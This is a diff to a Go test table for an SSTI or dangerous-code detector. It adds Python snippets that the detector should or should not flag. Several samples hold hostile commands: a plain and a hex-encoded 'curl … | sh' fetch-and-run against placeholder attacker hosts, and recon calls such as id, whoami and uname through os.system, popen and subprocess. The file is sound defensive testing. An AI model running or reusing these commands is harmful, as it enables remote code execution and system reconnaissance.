@@ -174,6 +174,19 @@ func TestSSTI(t *testing.T) {
 		{"program fetch", "import os\n\n\nos.system('curl http://evil.tld/x | sh')\n", true},
 		{"one line subprocess", "subprocess.run(['wc', '-l', 'x'])", true},
 		{"import then call one line", "import os; os.system('id')", true},
+		// os.system and os.popen run a shell whatever the program; a subprocess list must
+		// name a program that is not a shell, an interpreter, a fetcher or a recon command.
+		{"program hex command", "import os\na = 1\nb = 2\nos.system(bytes.fromhex('6375726c202d7320687474703a2f2f6576696c2e6578616d706c652f787c7368').decode())\n", true},
+		{"program popen hex", "import os\n\n\nos.popen(bytes.fromhex('6964').decode()).read()", true},
+		{"program popen literal", "import os\n\n\nprint(os.popen('uname -a').read())\n", true},
+		{"program execl", "import os\n\n\nos.execl('/usr/bin/id', 'id')\n", true},
+		{"program check_output id", "import subprocess\na = 1\nb = 2\nprint(subprocess.check_output(['id']))\n", true},
+		{"program subprocess whoami path", "import subprocess\n\n\nsubprocess.run(['/usr/bin/whoami'])\n", true},
+		{"program subprocess python -c", "import subprocess\n\n\nsubprocess.run(['python3', '-c', code])\n", true},
+		{"program subprocess computed list", "import subprocess\n\n\nsubprocess.run(bytes.fromhex('6964').decode().split())\n", true},
+		{"program getoutput", "import subprocess\n\n\nprint(subprocess.getoutput(['wc']))\n", true},
+		{"program compresses its output", "import csv\nimport subprocess\nimport sys\n\nsubprocess.run([\"gzip\", \"-f\", str(out)], check=True)\n", false},
+		{"program clears screen anywhere", "import os\n\n\nos.system('cls' if os.name == 'nt' else 'clear')\n", false},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
